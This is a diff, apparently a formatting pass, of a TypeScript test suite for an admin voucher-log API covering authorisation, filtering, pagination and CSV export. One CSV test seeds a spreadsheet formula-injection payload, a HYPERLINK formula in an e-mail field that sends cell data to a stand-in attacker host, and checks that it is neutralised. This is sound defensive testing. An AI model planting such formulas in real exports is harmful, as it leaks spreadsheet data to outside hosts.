@@ -60,14 +60,27 @@ beforeAll(async () => {
   const ids = await seedLogs(server, logs);
   // cid deleted the account: the rows stay, pseudonymous.
   await eraseUser(server, cid);
-  const emails = new Map([[ann, 'ann@example.com'], [bob, 'Bob@Example.com'], [cid, null], [dee, 'dee_1@example.org'], [dex, 'deex1@example.org'], [pct, '100%real@example.org']]);
-  seeded = steps.map(([voucherCode, userId, actionType], i) => ({ id: ids[i]!, voucherCode, userEmail: emails.get(userId) ?? null, actionType }));
+  const emails = new Map([
+    [ann, 'ann@example.com'],
+    [bob, 'Bob@Example.com'],
+    [cid, null],
+    [dee, 'dee_1@example.org'],
+    [dex, 'deex1@example.org'],
+    [pct, '100%real@example.org'],
+  ]);
+  seeded = steps.map(([voucherCode, userId, actionType], i) => ({
+    id: ids[i]!,
+    voucherCode,
+    userEmail: emails.get(userId) ?? null,
+    actionType,
+  }));
 });
 
 const get = (path: string, cookie?: string) => fetch(`${server.url}${path}`, { headers: cookie ? { cookie } : {} });
 const logsUrl = (query: Record<string, string> = {}) => `/api/admin/voucher-logs?${new URLSearchParams(query)}`;
 const csvUrl = (query: Record<string, string> = {}) => `/api/admin/voucher-logs.csv?${new URLSearchParams(query)}`;
-const exportsRecorded = async () => Number((await queryRows<{ n: string }>(server, 'SELECT count(*) AS n FROM voucher_log_exports'))[0]!.n);
+const exportsRecorded = async () =>
+  Number((await queryRows<{ n: string }>(server, 'SELECT count(*) AS n FROM voucher_log_exports'))[0]!.n);
 
 /** Every page of a query, following nextCursor. */
 async function allPages(query: Record<string, string>, limit: number): Promise<{ logs: VoucherLog[]; pages: number }> {
@@ -88,13 +101,25 @@ async function allPages(query: Record<string, string>, limit: number): Promise<{
 /** The seeded rows a filter should return, newest first: part of the code and part of the e-mail, in any case, as typed. */
 function matching(filter: { voucherCode?: string; userEmail?: string; actionType?: VoucherAction }): Expected[] {
   return seeded
-    .filter((log) => filter.voucherCode === undefined || log.voucherCode.toUpperCase().includes(filter.voucherCode.toUpperCase()))
-    .filter((log) => filter.userEmail === undefined || (log.userEmail !== null && log.userEmail.toLowerCase().includes(filter.userEmail.toLowerCase())))
+    .filter(
+      (log) =>
+        filter.voucherCode === undefined || log.voucherCode.toUpperCase().includes(filter.voucherCode.toUpperCase()),
+    )
+    .filter(
+      (log) =>
+        filter.userEmail === undefined ||
+        (log.userEmail !== null && log.userEmail.toLowerCase().includes(filter.userEmail.toLowerCase())),
+    )
     .filter((log) => filter.actionType === undefined || log.actionType === filter.actionType)
     .reverse();
 }
 
-const summary = (log: VoucherLog | Expected): Expected => ({ id: log.id, voucherCode: log.voucherCode, userEmail: log.userEmail, actionType: log.actionType });
+const summary = (log: VoucherLog | Expected): Expected => ({
+  id: log.id,
+  voucherCode: log.voucherCode,
+  userEmail: log.userEmail,
+  actionType: log.actionType,
+});
 
 /** RFC 4180 rows of a CSV text (quoted cells, CRLF). */
 function parseCsv(text: string): string[][] {
@@ -129,7 +154,12 @@ function parseCsv(text: string): string[][] {
 const CSV_HEADER = ['Date', 'Code', 'User e-mail', 'Action', 'USD', '$CIAO', 'Shopify discount id', 'Order id'];
 
 describe('who may use /api/admin', () => {
-  const routes = ['/api/admin/voucher-logs', '/api/admin/voucher-logs.csv', '/api/admin/voucher-logs?actionType=bogus', '/api/admin/no-such-route'];
+  const routes = [
+    '/api/admin/voucher-logs',
+    '/api/admin/voucher-logs.csv',
+    '/api/admin/voucher-logs?actionType=bogus',
+    '/api/admin/no-such-route',
+  ];
 
   it.each(routes)('when nobody is signed in, then %s answers 401', async (path) => {
     const response = await get(path);
@@ -137,13 +167,16 @@ describe('who may use /api/admin', () => {
     expect(await response.json()).toEqual({ message: 'Not authenticated' });
   });
 
-  it.each(routes)('when a signed-in user is not an admin, then %s answers 403 and nothing is exported', async (path) => {
-    const before = await exportsRecorded();
-    const response = await get(path, memberCookie);
-    expect(response.status).toBe(403);
-    expect(await response.json()).toEqual({ message: 'Admin access required' });
-    expect(await exportsRecorded()).toBe(before);
-  });
+  it.each(routes)(
+    'when a signed-in user is not an admin, then %s answers 403 and nothing is exported',
+    async (path) => {
+      const before = await exportsRecorded();
+      const response = await get(path, memberCookie);
+      expect(response.status).toBe(403);
+      expect(await response.json()).toEqual({ message: 'Admin access required' });
+      expect(await exportsRecorded()).toBe(before);
+    },
+  );
 
   it('when an admin asks, then both routes answer 200 and an unknown admin path 404', async () => {
     expect((await get('/api/admin/voucher-logs', adminCookie)).status).toBe(200);
@@ -155,7 +188,9 @@ describe('who may use /api/admin', () => {
 
   it('when the CLI grants then revokes the role, then the same session gets 200 then 403', async () => {
     const noPassword = () => Promise.reject(new Error('granting a role reads no password'));
-    expect(await runUsersCommand(['grant-role', '--email', MEMBER.email, '--role', 'viewer'], server.accounts, noPassword)).toBe(`${MEMBER.email} is now viewer`);
+    expect(
+      await runUsersCommand(['grant-role', '--email', MEMBER.email, '--role', 'viewer'], server.accounts, noPassword),
+    ).toBe(`${MEMBER.email} is now viewer`);
     expect((await get('/api/admin/voucher-logs', memberCookie)).status).toBe(200);
     await runUsersCommand(['revoke-role', '--email', MEMBER.email], server.accounts, noPassword);
     expect((await get('/api/admin/voucher-logs', memberCookie)).status).toBe(403);
@@ -208,7 +243,10 @@ describe('GET /api/admin/voucher-logs', () => {
 
   it('when the account behind a row was deleted, then its rows stay with no e-mail and its old e-mail finds nothing', async () => {
     const { logs } = await allPages({ voucherCode: 'CIAO-CCCCCC-000004' }, 50);
-    expect(logs.map((log) => [log.actionType, log.userEmail])).toEqual([['cancelled', null], ['generated', null]]);
+    expect(logs.map((log) => [log.actionType, log.userEmail])).toEqual([
+      ['cancelled', null],
+      ['generated', null],
+    ]);
     expect((await allPages({ userEmail: 'cid@example.com' }, 50)).logs).toEqual([]);
   });
 
@@ -229,29 +267,40 @@ describe('GET /api/admin/voucher-logs', () => {
     ['a percent sign, which LIKE reads as anything', { userEmail: '100%r' }],
     ['a lone percent sign', { voucherCode: '%' }],
     ['a backslash, the escape character', { userEmail: '\\' }],
-    ...(['generated', 'used', 'expired', 'cancelled'] as const).map((actionType): [string, Record<string, string>] => [`action ${actionType}`, { actionType }]),
+    ...(['generated', 'used', 'expired', 'cancelled'] as const).map((actionType): [string, Record<string, string>] => [
+      `action ${actionType}`,
+      { actionType },
+    ]),
     ['e-mail and action', { userEmail: 'ann@example.com', actionType: 'generated' }],
     ['code and action', { voucherCode: 'CIAO-BBBBBB-000002', actionType: 'expired' }],
     ['code and the e-mail of someone else', { voucherCode: 'CIAO-AAAAAA-000001', userEmail: 'bob@example.com' }],
-    ['code, e-mail and action', { voucherCode: 'CIAO-BBBBBB-000005', userEmail: 'bob@example.com', actionType: 'used' }],
+    [
+      'code, e-mail and action',
+      { voucherCode: 'CIAO-BBBBBB-000005', userEmail: 'bob@example.com', actionType: 'used' },
+    ],
     ['empty fields (a plain form)', { voucherCode: '', userEmail: ' ', actionType: '' }],
   ];
 
-  it.each(filters)('when filtered by %s, then exactly the matching rows come back, newest first, over pages of 2 as over one page', async (_name, query) => {
-    const expected = matching({
-      voucherCode: query.voucherCode?.trim() || undefined,
-      userEmail: query.userEmail?.trim() || undefined,
-      actionType: (query.actionType || undefined) as VoucherAction | undefined,
-    });
-    const whole = await allPages(query, 50);
-    expect(whole.logs.map(summary)).toEqual(expected);
-    const paged = await allPages(query, 2);
-    expect(paged.logs.map(summary)).toEqual(expected);
-    expect(paged.pages).toBe(Math.max(1, Math.ceil(expected.length / 2)));
-  });
+  it.each(filters)(
+    'when filtered by %s, then exactly the matching rows come back, newest first, over pages of 2 as over one page',
+    async (_name, query) => {
+      const expected = matching({
+        voucherCode: query.voucherCode?.trim() || undefined,
+        userEmail: query.userEmail?.trim() || undefined,
+        actionType: (query.actionType || undefined) as VoucherAction | undefined,
+      });
+      const whole = await allPages(query, 50);
+      expect(whole.logs.map(summary)).toEqual(expected);
+      const paged = await allPages(query, 2);
+      expect(paged.logs.map(summary)).toEqual(expected);
+      expect(paged.pages).toBe(Math.max(1, Math.ceil(expected.length / 2)));
+    },
+  );
 
   it('the fixture behind the table above holds every action and several rows per combined filter', () => {
-    expect(new Set(seeded.map((log) => log.actionType))).toEqual(new Set(['generated', 'used', 'expired', 'cancelled']));
+    expect(new Set(seeded.map((log) => log.actionType))).toEqual(
+      new Set(['generated', 'used', 'expired', 'cancelled']),
+    );
     expect(matching({ userEmail: 'ann@example.com', actionType: 'generated' })).toHaveLength(3);
     // LIKE's wildcards would find more: 'dee_' also deex1, '100%r' nothing else here but '%' every code.
     expect(matching({ userEmail: 'dee_' }).map((log) => log.userEmail)).toEqual(['dee_1@example.org']);
@@ -294,33 +343,63 @@ describe('GET /api/admin/voucher-logs.csv', () => {
     expect(rows[0]).toEqual(CSV_HEADER);
     const { logs } = await allPages({}, 50);
     expect(rows.slice(1)).toEqual(
-      logs.map((log) => [log.createdAt, log.voucherCode, log.userEmail ?? '', log.actionType, log.amountUsd, log.amountCiao, log.shopifyDiscountId ?? '', log.ciaomarketsOrderId ?? '']),
+      logs.map((log) => [
+        log.createdAt,
+        log.voucherCode,
+        log.userEmail ?? '',
+        log.actionType,
+        log.amountUsd,
+        log.amountCiao,
+        log.shopifyDiscountId ?? '',
+        log.ciaomarketsOrderId ?? '',
+      ]),
     );
-    const [recorded] = await queryRows(server, 'SELECT admin_user_id, created_at, filter, row_count FROM voucher_log_exports ORDER BY id DESC LIMIT 1');
+    const [recorded] = await queryRows(
+      server,
+      'SELECT admin_user_id, created_at, filter, row_count FROM voucher_log_exports ORDER BY id DESC LIMIT 1',
+    );
     expect(recorded).toEqual({ admin_user_id: adminId, created_at: clock.now(), filter: {}, row_count: seeded.length });
   });
 
-  it.each(filters())('when exported with %s, then exactly the matching rows, newest first, and the filter is recorded', async (_name, query, recordedFilter) => {
-    const response = await get(csvUrl(query), adminCookie);
-    expect(response.status).toBe(200);
-    const rows = parseCsv(await response.text());
-    expect(rows[0]).toEqual(CSV_HEADER);
-    const expected = matching(recordedFilter);
-    expect(rows.slice(1).map(([, voucherCode, userEmail, actionType]) => [voucherCode, userEmail, actionType])).toEqual(
-      expected.map((log) => [log.voucherCode, log.userEmail ?? '', log.actionType]),
-    );
-    const [recorded] = await queryRows(server, 'SELECT admin_user_id, filter, row_count FROM voucher_log_exports ORDER BY id DESC LIMIT 1');
-    expect(recorded).toEqual({ admin_user_id: adminId, filter: recordedFilter, row_count: expected.length });
-  });
+  it.each(filters())(
+    'when exported with %s, then exactly the matching rows, newest first, and the filter is recorded',
+    async (_name, query, recordedFilter) => {
+      const response = await get(csvUrl(query), adminCookie);
+      expect(response.status).toBe(200);
+      const rows = parseCsv(await response.text());
+      expect(rows[0]).toEqual(CSV_HEADER);
+      const expected = matching(recordedFilter);
+      expect(
+        rows.slice(1).map(([, voucherCode, userEmail, actionType]) => [voucherCode, userEmail, actionType]),
+      ).toEqual(expected.map((log) => [log.voucherCode, log.userEmail ?? '', log.actionType]));
+      const [recorded] = await queryRows(
+        server,
+        'SELECT admin_user_id, filter, row_count FROM voucher_log_exports ORDER BY id DESC LIMIT 1',
+      );
+      expect(recorded).toEqual({ admin_user_id: adminId, filter: recordedFilter, row_count: expected.length });
+    },
+  );
 
-  function filters(): [string, Record<string, string>, { voucherCode?: string; userEmail?: string; actionType?: VoucherAction }][] {
+  function filters(): [
+    string,
+    Record<string, string>,
+    { voucherCode?: string; userEmail?: string; actionType?: VoucherAction },
+  ][] {
     return [
       ['an action', { actionType: 'used' }, { actionType: 'used' }],
-      ['a user e-mail and an action', { userEmail: ' ANN@example.com ', actionType: 'generated' }, { userEmail: 'ANN@example.com', actionType: 'generated' }],
+      [
+        'a user e-mail and an action',
+        { userEmail: ' ANN@example.com ', actionType: 'generated' },
+        { userEmail: 'ANN@example.com', actionType: 'generated' },
+      ],
       ['a code in lower case', { voucherCode: 'ciao-aaaaaa-000003' }, { voucherCode: 'CIAO-AAAAAA-000003' }],
       ['part of a code', { voucherCode: 'bbbb' }, { voucherCode: 'BBBB' }],
       ['part of an e-mail with a literal underscore', { userEmail: 'dee_' }, { userEmail: 'dee_' }],
-      ['a filter that matches nothing', { voucherCode: 'CIAO-AAAAAA-000001', actionType: 'expired' }, { voucherCode: 'CIAO-AAAAAA-000001', actionType: 'expired' }],
+      [
+        'a filter that matches nothing',
+        { voucherCode: 'CIAO-AAAAAA-000001', actionType: 'expired' },
+        { voucherCode: 'CIAO-AAAAAA-000001', actionType: 'expired' },
+      ],
     ];
   }
 
@@ -328,7 +407,10 @@ describe('GET /api/admin/voucher-logs.csv', () => {
     const before = await exportsRecorded();
     const response = await get(csvUrl({ actionType: 'refunded' }), adminCookie);
     expect(response.status).toBe(400);
-    expect(await jsonOf<ErrorBody>(response)).toEqual({ message: 'Invalid request', fields: { actionType: 'Expected one of: generated, used, expired, cancelled' } });
+    expect(await jsonOf<ErrorBody>(response)).toEqual({
+      message: 'Invalid request',
+      fields: { actionType: 'Expected one of: generated, used, expired, cancelled' },
+    });
     expect(await exportsRecorded()).toBe(before);
   });
 
@@ -338,20 +420,40 @@ describe('GET /api/admin/voucher-logs.csv', () => {
     const plus = await seedUser(server, '+1-555@example.com');
     await seedLogs(server, [
       { voucherCode: '=1+1', userId: evil, actionType: 'generated', createdAt: new Date('2026-01-02T00:00:00Z') },
-      { voucherCode: '@SUM(A1:A9)', userId: plus, actionType: 'generated', createdAt: new Date('2026-01-02T00:01:00Z'), ciaomarketsOrderId: '-2+3' },
+      {
+        voucherCode: '@SUM(A1:A9)',
+        userId: plus,
+        actionType: 'generated',
+        createdAt: new Date('2026-01-02T00:01:00Z'),
+        ciaomarketsOrderId: '-2+3',
+      },
     ]);
 
     const byEmail = await (await get(csvUrl({ userEmail: evilEmail }), adminCookie)).text();
-    expect(byEmail.split('\r\n')[1]).toContain(`,"'=1+1","'=HYPERLINK(""https://evil.example/?""&A1)@example.com","generated",`);
+    expect(byEmail.split('\r\n')[1]).toContain(
+      `,"'=1+1","'=HYPERLINK(""https://evil.example/?""&A1)@example.com","generated",`,
+    );
     const byPlus = parseCsv(await (await get(csvUrl({ userEmail: '+1-555@example.com' }), adminCookie)).text());
-    expect(byPlus[1]).toEqual([expect.any(String), "'@SUM(A1:A9)", "'+1-555@example.com", 'generated', '2.50', '735294.1176470588', '', "'-2+3"]);
+    expect(byPlus[1]).toEqual([
+      expect.any(String),
+      "'@SUM(A1:A9)",
+      "'+1-555@example.com",
+      'generated',
+      '2.50',
+      '735294.1176470588',
+      '',
+      "'-2+3",
+    ]);
   });
 });
 
 describe('CSV cells', () => {
-  it.each(['=', '+', '-', '@', '\t', '\r'])('when a cell begins with %j, then it gets a leading apostrophe', (start) => {
-    expect(csvCell(`${start}cmd`)).toBe(`"'${start}cmd"`);
-  });
+  it.each(['=', '+', '-', '@', '\t', '\r'])(
+    'when a cell begins with %j, then it gets a leading apostrophe',
+    (start) => {
+      expect(csvCell(`${start}cmd`)).toBe(`"'${start}cmd"`);
+    },
+  );
 
   it('when a cell holds quotes, commas or line breaks, then it is quoted with its quotes doubled', () => {
     expect(csvCell('a "b", c\nd')).toBe('"a ""b"", c\nd"');
